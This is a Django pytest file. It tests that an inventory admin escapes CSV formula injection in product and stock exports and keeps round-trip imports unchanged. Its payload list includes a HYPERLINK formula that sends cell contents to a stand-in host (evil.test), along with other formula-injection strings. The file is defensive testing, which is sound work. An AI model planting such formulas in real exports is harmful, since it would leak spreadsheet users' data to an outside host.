"""
CSV formula injection (issue 14, finding 5): a text cell of an admin export that a spreadsheet would run as a
formula (OWASP: a leading =, +, -, @, tab or carriage return, also after leading whitespace) is written with
a single quote in front, in every export format the admin offers, for products and stock. Numeric columns
stay numbers, and importing an export back restores the original text.
"""

import pytest
from django.contrib import admin
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from console.admin.resources import ProductResource, StockResource
from integrations.models import OutboxEvent
from inventory.models import InventoryLevel, Location, Product

PAYLOADS = [
    '=HYPERLINK("http://evil.test/?d="&A1,"Open")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUM(1)",
    "'=1+1",  # already quoted by hand: it must come back from a round trip as it was
]
PRODUCT_FIELDS = ["sku", "name", "barcode", "price", "weight", "active"]
STOCK_FIELDS = ["sku", "location", "on_hand", "committed", "incoming", "available"]
TEXT_COLUMNS = {"sku", "name", "barcode", "location"}


def runs_as_formula(cell) -> bool:
    """What a spreadsheet treats as a formula (OWASP CSV injection), written out here independently."""
    text = str(cell)
    return text[:1] in ("=", "+", "-", "@", "\t", "\r") or text.lstrip()[:1] in ("=", "+", "-", "@")


def formulae_in_text_columns(dataset):
    return [row[c] for row in dataset.dict for c in TEXT_COLUMNS & set(row) if runs_as_formula(row[c])]


def url(model, view):
    return reverse(f"admin:inventory_{model._meta.model_name}_{view}")


def export(client, model, fields, format_index=0):
    """The admin's export of `fields` in the admin's format number `format_index`: the file's content."""
    prefix = "productresource" if model is Product else "stockresource"
    data = {"format": str(format_index), "resource": "0", **{f"{prefix}_{f}": "on" for f in fields}}
    response = client.post(url(model, "export"), data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def export_all_formats(client, model, fields):
    """Every export format the model's admin offers: [(format, dataset parsed by the library)]."""
    exports = []
    for index, format_class in enumerate(admin.site._registry[model].get_export_formats()):
        file_format = format_class(encoding="utf-8-sig")
        content = export(client, model, fields, index)
        content = content if file_format.is_binary() else content.decode("utf-8-sig")
        exports.append((format_class, file_format.create_dataset(content)))
    return exports


def import_file(client, model, org, content):
    """The admin's two import steps (upload, confirm) with a CSV file; returns the confirmation response."""
    upload = SimpleUploadedFile("data.csv", content.encode(), content_type="text/csv")
    preview = client.post(
        url(model, "import"), {"organization": org.pk, "format": "0", "resource": "0", "import_file": upload}
    )
    confirm = preview.context["confirm_form"]
    return client.post(url(model, "process_import"), {n: confirm.initial.get(n, "") for n in confirm.fields})


@pytest.fixture
def client_of_admin(admin_client_for, org_admin):
    return admin_client_for(org_admin)


@pytest.fixture
def hostile_catalog(org):
    """One product per payload, the payload in every text column, and one with a negative price."""
    products = [
        Product.objects.create(organization=org, sku=f"{p}{n}", name=p, barcode=p, price="3.00")
        for n, p in enumerate(PAYLOADS)
    ]
    products.append(Product.objects.create(organization=org, sku="REFUND", name="Refund", price="-5.00"))
    return products


@pytest.fixture
def hostile_stock(org, hostile_catalog):
    """Each payload product at a location named by the payload."""
    return [
        InventoryLevel.objects.create(
            product=product, location=Location.objects.create(organization=org, name=product.name), on_hand=7
        )
        for product in hostile_catalog[: len(PAYLOADS)]
    ]


def test_product_export_escapes_formulae_in_every_text_column_and_format(client_of_admin, hostile_catalog):
    exports = export_all_formats(client_of_admin, Product, PRODUCT_FIELDS)

    assert exports, "the product admin offers no export format"
    for format_class, dataset in exports:
        rows = {row["name"]: row for row in dataset.dict}
        assert not formulae_in_text_columns(dataset), format_class
        for n, payload in enumerate(PAYLOADS):
            row = rows["'" + payload]
            assert (row["sku"], row["barcode"]) == (f"'{payload}{n}", "'" + payload), format_class
        assert str(rows["Refund"]["price"]) == "-5.00", format_class  # a number, not escaped text


def test_stock_export_escapes_formulae_in_every_text_column_and_format(client_of_admin, hostile_stock):
    exports = export_all_formats(client_of_admin, InventoryLevel, STOCK_FIELDS)

    assert exports, "the stock admin offers no export format"
    for format_class, dataset in exports:
        assert len(dataset) == len(PAYLOADS), format_class
        assert not formulae_in_text_columns(dataset), format_class
        for row in dataset.dict:
            assert row["location"].startswith("'") and row["sku"].startswith(row["location"]), format_class
            assert [str(row[f]) for f in ("on_hand", "committed", "available")] == ["7", "0", "7"]


def test_resources_escape_before_any_format_sees_the_rows(org, hostile_stock):
    # The escape is the resources' own: a format added to the admin later (XLSX, ODS…) gets escaped rows.
    products = ProductResource(organization=org).export()
    stock = StockResource(organization=org).export()

    for dataset in (products, stock):
        assert len(dataset) >= len(PAYLOADS)
        assert not formulae_in_text_columns(dataset)


def test_an_escaped_export_imports_back_unchanged(client_of_admin, org, hostile_catalog):
    # The library reads an upload back in text mode, which turns a carriage return into a line feed: that
    # payload sits out the round trip (not an escape question). The stock import trims its SKU and location
    # cells: its part takes the payloads that trimming leaves as they are.
    Product.objects.filter(organization=org, name="\r=1+1").delete()
    kept = [p for p in hostile_catalog[: len(PAYLOADS)] if p.name == p.name.strip()]
    assert len(kept) == 5
    for product in kept:
        location = Location.objects.create(organization=org, name=product.name)
        InventoryLevel.objects.create(product=product, location=location, on_hand=7)
    before = sorted(Product.objects.filter(organization=org).values_list("sku", "name", "barcode", "price"))
    products = export(client_of_admin, Product, PRODUCT_FIELDS).decode("utf-8-sig")
    stock = export(client_of_admin, InventoryLevel, STOCK_FIELDS).decode("utf-8-sig")

    products_done = import_file(client_of_admin, Product, org, products)
    products_said = [str(m) for m in get_messages(products_done.wsgi_request)]
    stock_done = import_file(client_of_admin, InventoryLevel, org, stock)
    stock_said = [str(m) for m in get_messages(stock_done.wsgi_request)]

    assert f"Import finished: 0 new, 0 updated, 0 deleted and {len(PAYLOADS)} skipped products." in (
        products_said
    )
    assert any(f"0 new, 0 updated, 0 deleted and {len(kept)} skipped" in m for m in stock_said)
    after = sorted(Product.objects.filter(organization=org).values_list("sku", "name", "barcode", "price"))
    assert after == before
    assert not OutboxEvent.objects.filter(object_type__in=["product", "inventory_level"]).exists()
